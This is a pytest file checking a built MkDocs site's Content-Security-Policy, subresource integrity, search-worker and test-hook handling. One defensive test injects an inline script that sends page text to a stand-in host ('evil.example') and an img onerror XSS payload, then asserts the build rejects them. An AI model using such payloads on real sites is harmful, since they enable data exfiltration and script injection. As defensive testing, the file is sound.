"""The built site, page by page: its policy parsed directive by directive, SRI on every load, the test hook.

`built_site` is the strict test build (tests/conftest.py); the other builds here are project copies.
"""

from __future__ import annotations

import base64
import hashlib
import json
import posixpath
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
import yaml

from policykit import as_sets, check_headers, expected_policy, parse_policy
from sitekit import ROOT, build_site, copy_project

WORKER = "assets/javascripts/workers/search.a7633da7.min.js"
LOCAL_WORKER = f"http://127.0.0.1:*/{WORKER} http://localhost:*/{WORKER}"  # mkdocs.yml: http://127.0.0.1:8000/
JS_TYPES = {"", "text/javascript", "module", "application/javascript"}


class Page(HTMLParser):
    """An independent reading of a built page: head metas, inline scripts, loads."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.head_tags: list[tuple[str, dict[str, str]]] = []
        self.inline: list[tuple[dict[str, str], str]] = []
        self.loads: list[tuple[str, dict[str, str]]] = []
        self._in_head = False
        self._script: dict[str, str] | None = None
        self._text: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {name: value or "" for name, value in attrs}
        if tag == "head":
            self._in_head = True
        elif self._in_head:
            self.head_tags.append((tag, values))
        if tag == "script" and "src" in values or tag == "link" and "stylesheet" in values.get("rel", "").split():
            self.loads.append((tag, values))
        elif tag == "script":
            self._script, self._text = values, []

    def handle_endtag(self, tag: str) -> None:
        if tag == "head":
            self._in_head = False
        if tag == "script" and self._script is not None:
            self.inline.append((self._script, "".join(self._text)))
            self._script = None

    def handle_data(self, data: str) -> None:
        if self._script is not None:
            self._text.append(data)

    def hashes(self) -> list[str]:
        found = []
        for attrs, text in self.inline:
            if attrs.get("type", "").lower() in JS_TYPES:
                digest = base64.b64encode(hashlib.sha256(text.encode()).digest()).decode()
                found.append(f"'sha256-{digest}'")
        return found

    def meta_policy(self) -> str:
        policies = [
            a["content"]
            for t, a in self.head_tags
            if t == "meta" and a.get("http-equiv", "").lower() == "content-security-policy"
        ]
        assert len(policies) == 1
        return policies[0]


def pages(site: Path) -> list[Path]:
    found = sorted(site.rglob("*.html"))
    assert len(found) > 10  # the real site: home, guides, cross-venue pages, 404
    return found


def test_every_page_policy_directive_by_directive(built_site: Path) -> None:
    for path in pages(built_site):
        page = Page(path.read_text(encoding="utf-8"))
        where = path.relative_to(built_site).as_posix()
        assert page.head_tags[0] == ("meta", {"charset": "utf-8"}), where
        assert page.head_tags[1][1].get("http-equiv") == "Content-Security-Policy", where
        assert ("meta", {"name": "referrer", "content": "no-referrer"}) in page.head_tags, where
        assert ("meta", {"http-equiv": "x-dns-prefetch-control", "content": "off"}) in page.head_tags, where
        hashes = page.hashes()
        assert 2 <= len(hashes) <= 4, where  # the theme's own: __md_scope, palette, tab target
        policy = parse_policy(page.meta_policy())
        assert as_sets(policy) == expected_policy(hashes, LOCAL_WORKER), where
        assert len(policy["script-src"]) == 2 + len(set(hashes)), where


def test_headers_file_carries_every_page_hash(built_site: Path) -> None:
    union = sorted({h for path in pages(built_site) for h in Page(path.read_text(encoding="utf-8")).hashes()})
    check_headers((built_site / "_headers").read_text(encoding="utf-8"), union, LOCAL_WORKER)


def test_the_search_worker_is_the_one_worker_src_allows(built_site: Path) -> None:
    html = (built_site / "venues" / "kraken-spot" / "index.html").read_text(encoding="utf-8")
    config = json.loads(next(text for attrs, text in Page(html).inline if attrs.get("id") == "__config"))
    assert posixpath.normpath(posixpath.join("venues/kraken-spot", config["search"])) == WORKER
    assert (built_site / WORKER).is_file()


def test_every_script_and_stylesheet_has_integrity_of_the_published_bytes(built_site: Path) -> None:
    checked = set()
    for path in pages(built_site):
        page = Page(path.read_text(encoding="utf-8"))
        where = path.relative_to(built_site).as_posix()
        assert len(page.loads) >= 5, where  # theme bundle, checker.js, theme CSS ×2, keyguide.css
        for tag, attrs in page.loads:
            url = attrs["src"] if tag == "script" else attrs["href"]
            target = (built_site / url.lstrip("/")) if url.startswith("/") else (path.parent / url)
            content = target.resolve().read_bytes()
            expected = "sha384-" + base64.b64encode(hashlib.sha384(content).digest()).decode()
            assert attrs.get("integrity") == expected, f"{where}: {url}"
            assert attrs.get("crossorigin") == "anonymous", f"{where}: {url}"
            checked.add(target.resolve().relative_to(built_site.resolve()).as_posix())
    assert {"assets/keyguide/checker.js", "assets/keyguide/keyguide.css"} <= checked
    assert any(name.startswith("assets/javascripts/bundle.") for name in checked)


# ---- builds of project copies ----------------------------------------------------------------------------

HOOK = "// the browser tests' hook (a stand-in)\n"


@pytest.fixture(scope="module")
def production(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str]:
    """A production build (no KEYGUIDE_TEST_HOOK) for a GitHub Pages project site, with a hook file present."""
    project = copy_project(tmp_path_factory.mktemp("production"))
    (project / "content/assets/keyguide/test-hook.js").write_text(HOOK, encoding="utf-8")
    config = project / "mkdocs.yml"
    config.write_text(
        config.read_text(encoding="utf-8").replace(
            "site_url: http://127.0.0.1:8000/", "site_url: https://owner.github.io/keyguide/"
        ),
        encoding="utf-8",
    )
    site = project / "site"
    result = build_site(project, site, test_hook=False)
    assert result.returncode == 0, result.stderr
    return site, result.stderr


def test_production_builds_neither_ship_nor_load_the_test_hook(production: tuple[Path, str]) -> None:
    site, _ = production
    assert not (site / "assets/keyguide/test-hook.js").exists()
    for path in pages(site):
        assert "test-hook" not in path.read_text(encoding="utf-8"), path


def test_test_builds_load_the_hook_right_before_checker_js(tmp_path: Path) -> None:
    project = copy_project(tmp_path)
    (project / "content/assets/keyguide/test-hook.js").write_text(HOOK, encoding="utf-8")
    site = tmp_path / "site"
    result = build_site(project, site, test_hook=True)
    assert result.returncode == 0, result.stderr
    assert (site / "assets/keyguide/test-hook.js").read_text(encoding="utf-8") == HOOK
    page = Page((site / "venues/kraken-spot/index.html").read_text(encoding="utf-8"))
    sources = [attrs["src"] for tag, attrs in page.loads if tag == "script"]
    hook = sources.index("../../assets/keyguide/test-hook.js")
    assert sources[hook + 1] == "../../assets/keyguide/checker.js"


def test_a_site_under_a_path_refuses_the_checker_and_names_its_worker(production: tuple[Path, str]) -> None:
    site, log = production
    assert "the key checker will refuse to start: site_url https://owner.github.io/keyguide/ is under a path" in log
    worker = f"https://owner.github.io/keyguide/{WORKER}"
    for path in pages(site):
        page = Page(path.read_text(encoding="utf-8"))
        assert as_sets(parse_policy(page.meta_policy())) == expected_policy(page.hashes(), worker), path
    # 404.html links its assets by absolute path under the site's path; each still gets its integrity.
    not_found = Page((site / "404.html").read_text(encoding="utf-8"))
    assert all(attrs["src"].startswith("/keyguide/assets/") for tag, attrs in not_found.loads if tag == "script")
    assert all("integrity" in attrs for _, attrs in not_found.loads)


@pytest.mark.parametrize(
    ("markup", "problem"),
    [
        ("<script>fetch('https://evil.example/?k=' + document.body.innerText)</script>", "an inline <script>"),
        ('<img src="assets/keyguide/x.png" onerror="alert(1)">', "event-handler attribute onerror= on <img>"),
    ],
)
def test_markup_in_a_page_stops_the_build_naming_the_page(tmp_path: Path, markup: str, problem: str) -> None:
    project = copy_project(tmp_path)
    page = project / "content" / "security.md"
    page.write_text(page.read_text(encoding="utf-8") + f"\n\n{markup}\n", encoding="utf-8")
    result = build_site(project, tmp_path / "site")
    assert result.returncode != 0
    lines = [line for line in result.stderr.splitlines() if "pages may run only the theme's own scripts" in line]
    assert len(lines) == 1, result.stderr
    assert "security.md: " in lines[0] and problem in lines[0]
    assert "Traceback" not in result.stderr


def test_mkdocs_yml_site_url_is_the_one_the_tests_expect() -> None:
    config = yaml.load((ROOT / "mkdocs.yml").read_text(encoding="utf-8"), Loader=yaml.BaseLoader)
    assert re.fullmatch(r"http://127\.0\.0\.1:\d+/", config["site_url"])


def test_runtime_json_names_the_published_wheel_by_its_digest(built_site: Path) -> None:
    """The page checks the wheel against this digest before unpacking it (checker.js)."""
    runtime = json.loads((built_site / "assets/keyguide/runtime.json").read_text(encoding="utf-8"))
    wheel = (built_site / "assets/keyguide" / runtime["wheel"]).read_bytes()
    assert re.fullmatch(r"keyguide_checker-[\w.]+-py3-none-any\.whl", runtime["wheel"])
    assert hashlib.sha256(wheel).hexdigest() == runtime["sha256"]
